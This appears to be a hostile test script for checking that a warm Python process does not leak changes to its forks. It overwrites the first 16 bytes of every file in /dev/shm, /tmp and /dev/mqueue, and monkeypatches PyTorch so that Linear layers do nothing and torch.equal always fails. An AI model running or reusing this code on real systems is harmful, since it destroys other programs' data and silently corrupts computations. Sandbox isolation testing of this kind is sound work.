"""Changes what the warm process shares with all its forks: files, maps, caches, module objects.

The next learner must find torch, numpy and the shell as they were.
"""

STOCK = "0 of 10"

# %% first
import glob
import mmap
import os
import sys

for path in glob.glob("/dev/shm/*") + glob.glob("/tmp/*") + glob.glob("/dev/mqueue/*"):
    try:
        with open(path, "r+b") as file, mmap.mmap(file.fileno(), 0) as shared:
            shared[: min(16, len(shared))] = b"\xff" * min(16, len(shared))
    except (OSError, ValueError):
        pass
import torch

torch.nn.Linear.forward = lambda self, batch: batch
torch.equal = lambda *args: False
torch.manual_seed(1)
torch.set_default_dtype(torch.float64)
torch.set_num_threads(16)
sys.setrecursionlimit(20)
